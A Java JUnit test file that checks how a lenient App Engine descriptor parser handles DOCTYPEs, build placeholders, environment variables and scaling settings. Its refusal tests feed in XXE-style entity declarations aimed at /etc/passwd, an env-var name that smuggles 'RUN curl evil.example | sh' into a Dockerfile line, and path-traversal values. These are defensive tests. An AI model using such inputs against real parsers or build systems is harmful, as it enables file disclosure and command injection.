package dev.aerun.appengine.descriptor;

import static dev.aerun.appengine.descriptor.Descriptors.FILE;
import static dev.aerun.appengine.descriptor.Descriptors.assertBodyError;
import static dev.aerun.appengine.descriptor.Descriptors.parseBody;
import static dev.aerun.appengine.descriptor.Descriptors.parseFull;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What the platform accepts is accepted here too, with a warning where it is ignored or changed;
 * what could load a file or expand an entity stays refused.
 */
class LenientDescriptorTest {
  private static final String ROOT =
      "<appengine-web-app><runtime>java21</runtime></appengine-web-app>";

  private static String onlyWarning(AppEngineWebXml d) {
    assertEquals(1, d.warnings().size(), () -> "warnings: " + d.warnings());
    return d.warnings().get(0);
  }

  private static void assertWarning(String warning, int line, int column, String element) {
    String prefix = FILE + ":" + line + ":" + column + ": " + element + ": ";
    assertTrue(warning.startsWith(prefix), () -> "expected " + prefix + " in " + warning);
  }

  // --- DOCTYPE ---

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE appengine-web-app>",
        "<!DOCTYPE appengine-web-app []>",
        "<!DOCTYPE appengine-web-app [\n  <!-- generated -->\n]>"
      })
  void doctypeWithNeitherExternalSubsetNorDeclarationsIsAcceptedWithAWarning(String doctype)
      throws Exception {
    AppEngineWebXml d = parseFull("<?xml version=\"1.0\"?>\n" + doctype + "\n" + ROOT);
    assertEquals(Optional.of("java21"), d.runtime());
    String warning = onlyWarning(d);
    assertTrue(warning.startsWith(FILE + ":2:"), warning);
    assertTrue(warning.contains("DOCTYPE declaration is ignored"), warning);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE appengine-web-app SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE appengine-web-app PUBLIC \"-//x//y\" \"http://127.0.0.1:1/x.dtd\">",
        "<!DOCTYPE appengine-web-app [<!ENTITY e \"expanded\">]>",
        "<!DOCTYPE appengine-web-app [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE appengine-web-app [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>",
        "<!DOCTYPE appengine-web-app [<!ATTLIST appengine-web-app a CDATA \"x\">]>",
        "<!DOCTYPE appengine-web-app [<!ELEMENT appengine-web-app ANY>]>"
      })
  void doctypeThatCouldLoadAFileOrDeclareAnythingIsRefused(String doctype) {
    DescriptorException e =
        Descriptors.errorFull("<?xml version=\"1.0\"?>\n" + doctype + "\n" + ROOT);
    assertTrue(e.getMessage().contains("DOCTYPE"), e.getMessage());
    assertEquals(2, e.line());
  }

  @Test
  void anEntityDeclaredInAnAcceptedLookingDoctypeIsNeverExpanded() {
    DescriptorException e =
        Descriptors.errorFull(
            "<!DOCTYPE appengine-web-app [<!ENTITY e \"x\">]>\n"
                + "<appengine-web-app><application>&e;</application></appengine-web-app>");
    assertTrue(e.getMessage().contains("DOCTYPE"), e.getMessage());
  }

  // --- ${...} placeholders in string-typed elements ---

  @Test
  void placeholdersInStringTypedScalingElementsWarnAndUseTheDefault() throws Exception {
    AppEngineWebXml d =
        parseBody(
            """
            <automatic-scaling>
              <min-idle-instances>${min.idle}</min-idle-instances>
              <max-idle-instances>${max.idle}</max-idle-instances>
              <min-pending-latency>${latency}</min-pending-latency>
              <max-concurrent-requests>${concurrency}</max-concurrent-requests>
            </automatic-scaling>
            """);
    AutomaticScaling a = (AutomaticScaling) d.scaling().orElseThrow();
    assertEquals(Optional.empty(), a.minIdleInstances());
    assertEquals(Optional.empty(), a.maxIdleInstances());
    assertEquals(Optional.empty(), a.minPendingLatency());
    assertEquals(Optional.empty(), a.maxConcurrentRequests());
    assertEquals(4, d.warnings().size(), d.warnings()::toString);
    assertWarning(d.warnings().get(3), 6, 3, "max-concurrent-requests");
    assertTrue(
        d.warnings().get(3).contains("\"${concurrency}\" is an unresolved build placeholder"));
    assertTrue(d.warnings().get(3).contains("default applies"));
  }

  @Test
  void placeholdersInManualAndBasicScalingMeanOneInstance() throws Exception {
    ManualScaling m =
        (ManualScaling)
            parseBody("<manual-scaling><instances>${n}</instances></manual-scaling>\n")
                .scaling()
                .orElseThrow();
    assertEquals(1, m.instances());
    BasicScaling b =
        (BasicScaling)
            parseBody(
                    "<basic-scaling><max-instances>${n}</max-instances>"
                        + "<idle-timeout>${t}</idle-timeout></basic-scaling>\n")
                .scaling()
                .orElseThrow();
    assertEquals(1, b.maxInstances());
    assertEquals(Optional.empty(), b.idleTimeoutSeconds());
  }

  @Test
  void placeholdersInIdentityElementsCountAsAbsent() throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<application>${app.id}</application>\n<version>${v}</version>\n"
                + "<service>${s}</service>\n<runtime>${java.runtime}</runtime>\n");
    assertEquals(Optional.empty(), d.application());
    assertEquals(Optional.empty(), d.version());
    assertEquals(Optional.empty(), d.service());
    assertEquals(Optional.empty(), d.runtime());
    assertEquals(4, d.warnings().size());
  }

  @Test
  void placeholdersInNumericallyTypedElementsStayErrors() {
    assertBodyError(
        "<automatic-scaling><min-instances>${n}</min-instances></automatic-scaling>\n",
        2,
        20,
        "min-instances",
        "invalid integer");
  }

  // --- environment variables ---

  @Test
  void platformVariablesAreAcceptedWithAWarningNamingThemButNeverTheirValues() throws Exception {
    AppEngineWebXml d =
        parseBody(
            """
            <env-variables>
              <env-var name="GAE_PROFILER_MODE" value="cpu-secret-1"/>
              <env-var name="PORT" value="9999"/>
              <env-var name="GAE_ENV" value="standard"/>
              <env-var name="GOOGLE_CLOUD_PROJECT" value="p-secret-2"/>
              <env-var name="OTHER" value="x"/>
            </env-variables>
            """);
    assertEquals("9999", d.envVariables().get("PORT"));
    assertEquals(4, d.warnings().size(), d.warnings()::toString);
    assertWarning(d.warnings().get(0), 3, 3, "env-var");
    List<String> names = List.of("GAE_PROFILER_MODE", "PORT", "GAE_ENV", "GOOGLE_CLOUD_PROJECT");
    for (int i = 0; i < names.size(); i++) {
      String w = d.warnings().get(i);
      assertTrue(w.contains("environment variable " + names.get(i) + " "), w);
      for (String value : List.of("cpu-secret-1", "9999", "standard", "p-secret-2")) {
        assertFalse(w.contains(value), w);
      }
    }
  }

  @Test
  void envVariableNameWithEqualsIsADescriptorError() {
    assertBodyError(
        "<env-variables>\n  <env-var name=\"A=B\" value=\"x\"/>\n</env-variables>\n",
        3,
        3,
        "env-var",
        "environment variable name \"A=B\" is not valid");
  }

  /**
   * A name a Dockerfile, a shell or a manifest cannot take is refused where it is written: a line
   * break in it would end {@code stage}'s {@code ENV} line and start an instruction of its own.
   */
  @Test
  void envVariableNameOutsideLettersDigitsAndUnderscore_isADescriptorError() {
    for (String name :
        List.of(
            "A&#10;RUN curl evil.example | sh",
            "A&#13;B",
            "A B",
            "1A",
            "A-B",
            "A.B",
            "A$B",
            "\u00c9T\u00c9",
            "A&#9;B",
            "A\\B",
            "A&#0;")) {
      String xml =
          "<env-variables>\n  <env-var name=\"" + name + "\" value=\"x\"/>\n</env-variables>\n";
      if (name.equals("A&#0;")) {
        assertThrows(DescriptorException.class, () -> parseBody(xml), name);
        continue;
      }
      DescriptorException e = assertBodyError(xml, 3, 3, "env-var", "is not valid: use letters");
      assertFalse(e.getMessage().contains("\n") || e.getMessage().contains("\r"), e.getMessage());
    }
    for (String name : List.of("A", "_", "_A1", "a_b", "SAMPLE_ENV")) {
      assertDoesNotThrow(
          () ->
              parseBody(
                  "<env-variables><env-var name=\"" + name + "\" value=\"x\"/></env-variables>\n"),
          name);
    }
  }

  @Test
  void envVariableTooLongToPassOnIsADescriptorError() {
    String value = "x".repeat(TopLevelReader.MAX_ENV_ENTRY_CHARS);
    DescriptorException e =
        assertBodyError(
            "<env-variables>\n  <env-var name=\"BIG\" value=\""
                + value
                + "\"/>\n</env-variables>\n",
            3,
            3,
            "env-var",
            "environment variable BIG is too long to pass on");
    assertFalse(e.getMessage().contains("xxxxxxxxxx"), "the value is never quoted");
  }

  @Test
  void envVariableJustShortEnoughIsAccepted() throws Exception {
    String value = "x".repeat(TopLevelReader.MAX_ENV_ENTRY_CHARS - "BIG=".length());
    AppEngineWebXml d =
        parseBody(
            "<env-variables><env-var name=\"BIG\" value=\"" + value + "\"/></env-variables>\n");
    assertEquals(value.length(), d.envVariables().get("BIG").length());
  }

  // --- other elements the platform accepts ---

  @Test
  void sourceLanguageIsAcceptedWithAWarning() throws Exception {
    AppEngineWebXml d = parseBody("<source-language>java</source-language>\n");
    assertWarning(onlyWarning(d), 2, 1, "source-language");
  }

  @Test
  void emptyServiceMeansTheDefaultService() throws Exception {
    assertEquals(Optional.empty(), parseBody("<service/>\n").service());
    assertEquals(Optional.empty(), parseBody("<module></module>\n").service());
    assertEquals(List.of(), parseBody("<service/>\n").warnings());
  }

  @Test
  void defaultErrorCodeIsAccepted() throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<static-error-handlers><handler file=\"e.html\" error-code=\"default\"/>"
                + "</static-error-handlers>\n");
    assertEquals(Optional.of("default"), d.staticErrorHandlers().get(0).errorCode());
  }

  @Test
  void httpHeaderNamesDifferingInCaseAreAcceptedAndTheLaterWins() throws Exception {
    AppEngineWebXml d =
        parseBody(
            """
            <static-files>
              <include path="/a">
                <http-header name="Cache-Control" value="a"/>
                <http-header name="cache-control" value="b"/>
              </include>
            </static-files>
            """);
    assertEquals(Map.of("cache-control", "b"), d.staticFiles().includes().get(0).httpHeaders());
    assertWarning(onlyWarning(d), 5, 5, "http-header");
  }

  @Test
  void theVerySameHttpHeaderNameTwiceIsStillAnError() {
    assertBodyError(
        """
        <static-files>
          <include path="/a">
            <http-header name="X-A" value="a"/>
            <http-header name="X-A" value="b"/>
          </include>
        </static-files>
        """,
        5,
        5,
        "http-header",
        "duplicate http-header \"X-A\"");
  }

  @ParameterizedTest
  @ValueSource(strings = {"default", "legacy", "unspecified", "sequential"})
  void everyAutoIdPolicyIsAccepted(String policy) throws Exception {
    AppEngineWebXml d = parseBody("<auto-id-policy>" + policy + "</auto-id-policy>\n");
    assertEquals(Optional.of(policy), d.autoIdPolicy());
    assertEquals(policy.equals("default") || policy.equals("legacy") ? 0 : 1, d.warnings().size());
  }

  @ParameterizedTest
  @ValueSource(strings = {"all-traffic", "private-ip-ranges", "ALL_TRAFFIC", "PRIVATE_IP_RANGES"})
  void everyEgressSettingSpellingIsAccepted(String egress) throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<vpc-access-connector><name>c</name><egress-setting>"
                + egress
                + "</egress-setting></vpc-access-connector>\n");
    assertEquals(
        Optional.of(egress.toLowerCase(java.util.Locale.ROOT).replace('_', '-')),
        d.vpcAccessConnector().orElseThrow().egressSetting());
    assertEquals(List.of(), d.warnings());
  }

  @Test
  void unknownEgressSettingIsIgnoredWithAWarning() throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<vpc-access-connector><name>c</name><egress-setting>some</egress-setting>"
                + "</vpc-access-connector>\n");
    assertEquals(Optional.empty(), d.vpcAccessConnector().orElseThrow().egressSetting());
    assertWarning(onlyWarning(d), 2, 37, "egress-setting");
  }

  @ParameterizedTest
  @ValueSource(strings = {"30ms", "30 ms", "1.5s", "0.5 s", "2m", "automatic", "1s 500ms"})
  void pendingLatenciesAsThePlatformWritesThem(String latency) throws Exception {
    AutomaticScaling a =
        (AutomaticScaling)
            parseBody(
                    "<automatic-scaling><max-pending-latency>"
                        + latency
                        + "</max-pending-latency></automatic-scaling>\n")
                .scaling()
                .orElseThrow();
    assertEquals(Optional.of(latency), a.maxPendingLatency());
  }

  @Test
  void idleTimeoutWithAFraction() throws Exception {
    BasicScaling b =
        (BasicScaling)
            parseBody(
                    "<basic-scaling><max-instances>2</max-instances>"
                        + "<idle-timeout>1.5h</idle-timeout></basic-scaling>\n")
                .scaling()
                .orElseThrow();
    assertEquals(Optional.of(5400L), b.idleTimeoutSeconds());
  }

  @Test
  void targetCpuUtilizationOutsideItsRangeIsIgnoredWithAWarning() throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<automatic-scaling><target-cpu-utilization>1.5</target-cpu-utilization>"
                + "</automatic-scaling>\n");
    assertEquals(
        Optional.empty(), ((AutomaticScaling) d.scaling().orElseThrow()).targetCpuUtilization());
    assertWarning(onlyWarning(d), 2, 20, "target-cpu-utilization");
  }

  @Test
  void targetCpuUtilizationInItsRange() throws Exception {
    AppEngineWebXml d =
        parseBody(
            "<automatic-scaling><target-cpu-utilization>0.95</target-cpu-utilization>"
                + "</automatic-scaling>\n");
    assertEquals(
        Optional.of(0.95), ((AutomaticScaling) d.scaling().orElseThrow()).targetCpuUtilization());
    assertEquals(List.of(), d.warnings());
  }

  // --- misspelled switches ---

  @Test
  void aMisspelledSwitchGetsAWarningNamingTheSwitch() throws Exception {
    AppEngineWebXml d =
        parseBody(
            """
            <system-properties>
              <property name="appengine.use.HttpConector" value="true"/>
              <property name="appengine.use.httpconnector" value="true"/>
              <property name="appengine.use.EE01" value="true"/>
              <property name="appengine.api.urlfetch.defaultDeadline" value="10"/>
              <property name="my.own" value="x"/>
            </system-properties>
            """);
    assertEquals(2, d.warnings().size(), d.warnings()::toString);
    assertWarning(d.warnings().get(0), 3, 3, "property");
    assertTrue(
        d.warnings().get(0).contains("did you mean appengine.use.HttpConnector?"),
        d.warnings().get(0));
    assertTrue(d.warnings().get(1).contains("appengine.use.EE10"), d.warnings().get(1));
  }

  @Test
  void switchesAreRecognisedWhateverTheirCase() {
    for (String known : AppEngineSwitches.KNOWN) {
      assertEquals(Optional.empty(), AppEngineSwitches.resembling(known.toUpperCase()));
    }
    assertEquals(
        Optional.of("appengine.use.virtualthreads"),
        AppEngineSwitches.resembling("appengine.use.virtualthread"));
    assertEquals(Optional.empty(), AppEngineSwitches.resembling("appengine.something.else"));
  }

  // --- values the runtime cannot use ---

  @Test
  void maxConcurrentRequestsBeyondThePlatformsMaximumIsADescriptorError() {
    assertBodyError(
        "<automatic-scaling>\n  <max-concurrent-requests>2147483647</max-concurrent-requests>\n"
            + "</automatic-scaling>\n",
        3,
        3,
        "max-concurrent-requests",
        "more than 1000");
  }

  @Test
  void maxConcurrentRequestsAtThePlatformsMaximum() throws Exception {
    AutomaticScaling a =
        (AutomaticScaling)
            parseBody(
                    "<automatic-scaling><max-concurrent-requests>1000</max-concurrent-requests>"
                        + "</automatic-scaling>\n")
                .scaling()
                .orElseThrow();
    assertEquals(Optional.of(1000), a.maxConcurrentRequests());
  }

  @ParameterizedTest
  @ValueSource(strings = {"..", "../outside", "/static/../../etc", "a/../../b", "..\\\\x"})
  void publicRootOutsideTheAppIsADescriptorError(String root) {
    assertBodyError(
        "<public-root>" + root + "</public-root>\n", 2, 1, "public-root", "is outside the app");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/static", "static/", "/a/../b", "/"})
  void publicRootInsideTheApp(String root) throws Exception {
    assertEquals(
        Optional.of(root), parseBody("<public-root>" + root + "</public-root>\n").publicRoot());
  }
}
